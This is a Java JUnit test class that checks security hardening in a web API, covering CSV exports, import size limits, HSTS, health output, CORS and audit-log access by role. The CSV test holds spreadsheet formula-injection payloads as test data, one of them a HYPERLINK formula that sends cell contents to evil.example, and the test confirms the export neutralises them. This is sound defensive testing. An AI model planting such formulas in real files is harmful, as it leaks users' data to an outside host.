package io.wallbreaker.system;

import static io.wallbreaker.system.ApiBasicsTest.assertProblem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.micronaut.http.HttpRequest;
import io.micronaut.http.MediaType;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.wallbreaker.support.Api;
import io.wallbreaker.support.ApiTestBase;
import io.wallbreaker.support.Fixtures;
import io.wallbreaker.support.Resp;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/** What an adversarial test of the landed jar found, each kept closed by a test through HTTP. */
@MicronautTest(transactional = false)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HardeningTest extends ApiTestBase {

    private Api admin;
    private Api member;
    private Api viewer;
    private String dev;
    private String ops;

    @BeforeAll
    void setUp() {
        admin = admin();
        dev = team(admin, "DEV");
        ops = team(admin, "OPS");
        member = user(admin, "MEMBER", List.of(dev));
        viewer = user(admin, "VIEWER", List.of());
    }

    @Test
    void shouldNeutraliseFormulasInEveryCsvExport() {
        List<String> hostile =
                List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd", "-2+3", "@SUM(A1:A9)");
        for (String name : hostile) {
            Map<String, Object> body = Fixtures.aShadowSystem(name + " " + unique("s"), "Heroku", dev, ops);
            Resp created = member.post("/api/shadow-systems", body);
            assertEquals(201, created.status(), created.toString());
        }
        Resp csv = member.send(HttpRequest.GET("/api/metrics/shadow.csv?from=2026-01-01&to=2026-12-31&team=" + dev)
                .accept(MediaType.of("text/csv")));
        assertEquals(200, csv.status(), csv.toString());
        for (String name : hostile) {
            String quoted = name.replace("\"", "\"\"");
            assertTrue(csv.raw().contains("'" + quoted), "neutralised " + name + " in\n" + csv.raw());
        }
        for (String start : List.of("=", "+", "@", "-2")) {
            assertFalse(
                    csv.raw().contains("," + start) || csv.raw().contains(",\"" + start),
                    "a cell starts with " + start + ":\n" + csv.raw());
        }
        // The other exports (team pairs, incident figures, trends) hold slugs, keys, dates and numbers
        // only; they are written by the same CsvExport, whose every rule CsvExportTest covers.
    }

    @Test
    void shouldRefuseAShadowImportAboveTheRowLimitWith413AndStoreNothing() {
        String owner = team(admin, "DEV");
        StringBuilder csv = new StringBuilder(
                "name,provider,ownerTeam,dataClassification,firstLiveAt,discoveredAt,discoveredBy,discoveryMethod\n");
        for (int i = 0; i <= 10_000; i++) {
            csv.append("app-")
                    .append(i)
                    .append(",Heroku,")
                    .append(owner)
                    .append(",NONE,2025-01-01,2026-01-01,")
                    .append(owner)
                    .append(",SELF_REPORTED\n");
        }
        Resp r = member.postRaw("/api/shadow-systems/import", csv.toString(), "text/csv");
        assertProblem(r, 413);
        assertEquals(10_000, r.num("maxRows"));
        assertEquals(0, member.get("/api/shadow-systems?ownerTeam=" + owner).num("total"));

        List<Map<String, Object>> json = new ArrayList<>();
        for (int i = 0; i <= 10_000; i++) {
            json.add(Map.of("name", "j-" + i));
        }
        assertProblem(member.post("/api/shadow-systems/import", json), 413);
    }

    @Test
    void shouldRefuseARequestImportAboveTheRowLimitWith413() {
        List<Map<String, Object>> items = new ArrayList<>();
        for (int i = 0; i <= 10_000; i++) {
            items.add(Map.of("externalRef", "X-" + i));
        }
        assertProblem(member.post("/api/requests/import", items), 413);
    }

    @Test
    void shouldRefuseABodyAboveTheRequestSizeLimitWith413Problem() {
        String big = "a".repeat(11 * 1024 * 1024);
        Resp r = member.postRaw("/api/shadow-systems/import", big, "text/csv");
        assertProblem(r, 413);
    }

    @Test
    void shouldSendHstsOnlyOverHttps() {
        Resp https = anonymous().send(HttpRequest.GET("/api/health").header("X-Forwarded-Proto", "https"));
        assertEquals("max-age=31536000", https.headers().get("Strict-Transport-Security"));
        Resp plain = anonymous().get("/api/health");
        assertNull(plain.headers().get("Strict-Transport-Security"));
    }

    @Test
    void shouldTellAnonymousHealthChecksOnlyWhetherTheServiceIsUp() {
        Resp anonymousHealth = anonymous().get("/api/health");
        assertEquals(200, anonymousHealth.status());
        assertEquals(Map.of("status", "UP"), anonymousHealth.map());
        assertEquals(Map.of("status", "UP"), member.get("/api/health").map());
        Resp adminHealth = admin.get("/api/health");
        assertTrue(List.of("H2", "PostgreSQL").contains(adminHealth.str("database")), adminHealth.toString());
        assertTrue(adminHealth.str("version") != null, adminHealth.toString());
    }

    @Test
    void shouldAnswerAStaticFolderWith404() {
        for (String path : List.of("/assets/", "/assets")) {
            Resp r = anonymous().send(HttpRequest.GET(path).accept(MediaType.ALL_TYPE));
            assertProblem(r, 404);
        }
    }

    @Test
    void shouldAnswerARefusedCrossOriginRequestWithAProblem() {
        Resp r = anonymous()
                .send(HttpRequest.OPTIONS("/api/teams")
                        .header("Origin", "https://evil.example")
                        .header("Access-Control-Request-Method", "POST"));
        assertProblem(r, 403);
        assertTrue(r.str("detail").contains("https://evil.example"), r.toString());
    }

    @Test
    void shouldLetViewersReadTheHistoryOfRecordsButNotOfAccounts() {
        Resp incident = member.post("/api/incidents", Fixtures.anIncident(List.of(dev)));
        assertEquals(201, incident.status(), incident.toString());
        Resp history = viewer.get("/api/audit?entityType=incident&entityId=" + incident.num("id"));
        assertEquals(200, history.status(), history.toString());
        assertEquals(1, history.num("total"));

        assertProblem(viewer.get("/api/audit?entityType=session"), 403);
        assertProblem(viewer.get("/api/audit?entityType=user"), 403);
        assertProblem(member.get("/api/audit?entityType=api-token"), 403);
        Resp all = viewer.get("/api/audit?size=500");
        assertEquals(200, all.status());
        for (Object e : (List<?>) all.at("items")) {
            String type = String.valueOf(((Map<?, ?>) e).get("entityType"));
            assertFalse(List.of("session", "user", "api-token").contains(type), "viewer sees " + type);
        }
        Resp unknown = viewer.get("/api/audit?entityType=incidents");
        assertProblem(unknown, 400);
        assertEquals(List.of("entityType"), unknown.errorFields());
        assertEquals(200, admin.get("/api/audit?entityType=session").status());
    }
}
